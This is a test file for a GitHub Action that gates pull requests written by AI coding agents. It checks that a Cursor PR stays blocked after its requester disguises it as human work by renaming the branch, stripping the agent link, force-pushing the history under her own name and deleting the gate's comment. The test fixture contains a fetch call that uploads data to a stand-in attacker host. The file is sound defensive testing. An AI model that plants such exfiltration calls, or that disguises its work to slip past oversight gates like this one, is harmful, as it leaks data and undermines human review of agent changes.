import { describe, expect, it } from 'vitest';
import { parseGateState } from '../../src/gate-state.js';
import {
  ALICE,
  at,
  BASE_SHA,
  addedFile,
  gitActor,
  GITHUB_ACTIONS,
  sha,
  typicalScenario,
  type FakeCommit,
  type FakeScenario,
} from '../fake-github/scenario.js';
import type { FakeGitHub } from '../fake-github/server.js';
import { pullRequestPayload, runAction, useGateRuns } from './run-action.js';

/**
 * End to end: the gate's memory (docs/security.md, "The gate's memory"). A Cursor PR the gate
 * failed is rewritten by its requester to look human — branch renamed, the Cursor link removed
 * from the body, the history force-pushed with the human as author — and the next run still
 * fails it as Cursor's, from its own comment, from its status on the replaced head, or from the
 * deletion of its comment.
 */

const { startFake } = useGateRuns();

const CURSOR_HEAD = sha(2);
const HUMAN_HEAD = sha(3);

function cursorCommit(n: number, minutes: number): FakeCommit {
  const who = gitActor(null, minutes, 'Cursor Agent', 'cursoragent@cursor.com');
  return { sha: sha(n), message: 'Send the report home', author: who, committer: who, parents: 1 };
}

/** alice asked Cursor for a change that calls a host the policy does not allow (network: deny). */
function cursorPr(): FakeScenario {
  const scenario = typicalScenario({
    files: [addedFile('src/report.ts', ["export const send = () => fetch('https://collector.evilcorp.io/upload');"])],
    commits: [cursorCommit(1, 1), cursorCommit(2, 10)],
    reviews: [],
    reviewComments: [],
    comments: [],
    timeline: [],
  });
  scenario.pr = {
    ...scenario.pr,
    title: 'Send the report',
    body: 'Adds the upload.\n\nhttps://cursor.com/agents/bc-1234',
    user: ALICE,
    head: { ref: 'cursor/send-report', sha: CURSOR_HEAD },
    assignees: [],
  };
  scenario.trees[BASE_SHA] = { '.github/agent-pr-gate.yml': 'extends: default\npermissions:\n  network: deny\n' };
  return scenario;
}

/** What the requester does next: every detection signal rewritten, the history force-pushed as alice. */
function rewriteAsHuman(scenario: FakeScenario): void {
  scenario.pr.head = { ref: 'send-report', sha: HUMAN_HEAD };
  scenario.pr.body = 'Adds the upload.';
  const who = gitActor(ALICE, 30);
  scenario.commits = [{ sha: HUMAN_HEAD, message: 'Send the report home', author: who, committer: who, parents: 1 }];
  scenario.timeline.push({ event: 'head_ref_force_pushed', actor: ALICE, created_at: at(31), before_sha: CURSOR_HEAD });
}

/** alice deletes the gate's comment. */
function deleteGateComment(scenario: FakeScenario): void {
  scenario.comments = scenario.comments.filter((comment) => comment.user?.login !== GITHUB_ACTIONS.login);
  scenario.timeline.push({ event: 'comment_deleted', actor: ALICE, created_at: at(32), deleted_comment_author: GITHUB_ACTIONS });
}

async function run(fake: FakeGitHub, action = 'synchronize') {
  fake.resetLog();
  return runAction(fake, { event: 'pull_request_target', payload: pullRequestPayload(fake.scenario, action) });
}

async function failedOnce(): Promise<FakeGitHub> {
  const fake = await startFake(cursorPr());
  const first = await run(fake);
  expect([first.outputs.verdict, first.outputs.agent]).toEqual(['fail', 'cursor']);
  expect(fake.writes.statuses.map((s) => [s.sha, s.state, s.description.slice(0, 16)])).toEqual([[CURSOR_HEAD, 'failure', '[cursor] denied:']]);
  const state = parseGateState(fake.writes.comments[0]?.body ?? '');
  expect(state).toMatchObject({ v: 1, agent: 'cursor', requester: 'alice', verdict: 'fail', headSha: CURSOR_HEAD, override: null });
  expect(state?.findings).toContainEqual({ category: 'network', level: 'deny' });
  return fake;
}

function expectStillCursorFail(fake: FakeGitHub, result: Awaited<ReturnType<typeof run>>) {
  expect(result.code).toBe(1);
  expect([result.outputs.verdict, result.outputs.agent]).toEqual(['fail', 'cursor']);
  expect(fake.writes.statuses.map((s) => [s.sha, s.state])).toEqual([[HUMAN_HEAD, 'failure']]);
  expect(fake.writes.statuses[0]?.description).toMatch(/^\[cursor\] denied: /);
  const body = fake.writes.comments.at(-1)?.body ?? '';
  expect(body).toContain("**Gated on the gate's memory:** gated since ");
  expect(body).toContain('as cursor; signals since removed');
  expect(body).not.toContain('no longer gated');
  expect(parseGateState(body)).toMatchObject({ agent: 'cursor', verdict: 'fail', headSha: HUMAN_HEAD });
}

describe('a Cursor PR rewritten to look human after the gate failed it', () => {
  it('without the memory the rewritten PR would pass as a human’s (the attack works on detection alone)', async () => {
    const scenario = cursorPr();
    rewriteAsHuman(scenario);
    scenario.timeline = [];
    const fake = await startFake(scenario);
    const result = await run(fake);
    expect([result.outputs.verdict, result.outputs.agent]).toEqual(['skipped', '']);
  });

  it('still fails as cursor, from the state in its own comment, and says it is gated on memory', async () => {
    const fake = await failedOnce();
    rewriteAsHuman(fake.scenario);
    const second = await run(fake);
    expectStillCursorFail(fake, second);
    expect(fake.writes.comments.map((c) => c.action)).toEqual(['update']);
    // The first judgement's time is carried over, not reset by the second run.
    const states = fake.scenario.comments.map((c) => parseGateState(c.body));
    expect(states).toHaveLength(1);
    expect(states[0]?.since).toBeTruthy();
    expect(Date.parse(states[0]?.since ?? '')).toBeLessThan(Date.parse(states[0]?.at ?? ''));
  });

  it('with the comment deleted too: from its status on the head the force push replaced', async () => {
    const fake = await failedOnce();
    rewriteAsHuman(fake.scenario);
    deleteGateComment(fake.scenario);
    const second = await run(fake);
    expectStillCursorFail(fake, second);
    expect(fake.writes.comments.map((c) => c.action)).toEqual(['create']);
    expect(fake.writes.comments[0]?.body).toContain(`from its status on ${CURSOR_HEAD.slice(0, 7)}`);
    expect(fake.writes.comments[0]?.body).toContain('**Requester:** alice (PR author)');
  });

  it('with the comment deleted and no status left to read: the deletion itself keeps it gated', async () => {
    const fake = await failedOnce();
    rewriteAsHuman(fake.scenario);
    deleteGateComment(fake.scenario);
    fake.scenario.statuses = {};
    const second = await run(fake);
    expect(second.code).toBe(1);
    expect([second.outputs.verdict, second.outputs.agent]).toEqual(['fail', 'unknown']);
    expect(fake.writes.statuses.map((s) => s.state)).toEqual(['failure']);
    expect(fake.writes.comments[0]?.body).toContain('its comment, deleted by alice');
  });

  it('only the override lets it through: a maintainer’s label after the force push passes it, still as cursor', async () => {
    const fake = await failedOnce();
    rewriteAsHuman(fake.scenario);
    const carol = { login: 'carol', id: 103, type: 'User' as const };
    fake.scenario.permissions.carol = 'maintain';
    fake.scenario.pr.labels = ['agent-pr-gate/override'];
    fake.scenario.timeline.push({ event: 'labeled', actor: carol, created_at: at(40), label: 'agent-pr-gate/override' });
    // The run the label triggers (a run triggered by the push would postdate the label).
    const second = await run(fake, 'labeled');
    expect([second.code, second.outputs.verdict, second.outputs.agent]).toEqual([0, 'pass', 'cursor']);
    expect(fake.writes.statuses[0]?.description).toMatch(/^\[cursor\] overridden by carol/);
    expect(parseGateState(fake.writes.comments.at(-1)?.body ?? '')).toMatchObject({ agent: 'cursor', verdict: 'pass', override: { by: 'carol', at: at(40) } });
  });

  it('a status someone else set, or a deletion the gate made itself, is not memory', async () => {
    const scenario = cursorPr();
    rewriteAsHuman(scenario);
    scenario.statuses = {
      [CURSOR_HEAD]: [{ context: 'agent-pr-gate', state: 'failure', description: '[cursor] denied: x', created_at: at(20), creator: ALICE }],
    };
    scenario.timeline.push({ event: 'comment_deleted', actor: GITHUB_ACTIONS, created_at: at(33), deleted_comment_author: GITHUB_ACTIONS });
    const fake = await startFake(scenario);
    const result = await run(fake);
    expect([result.outputs.verdict, result.outputs.agent]).toEqual(['skipped', '']);
  });
});
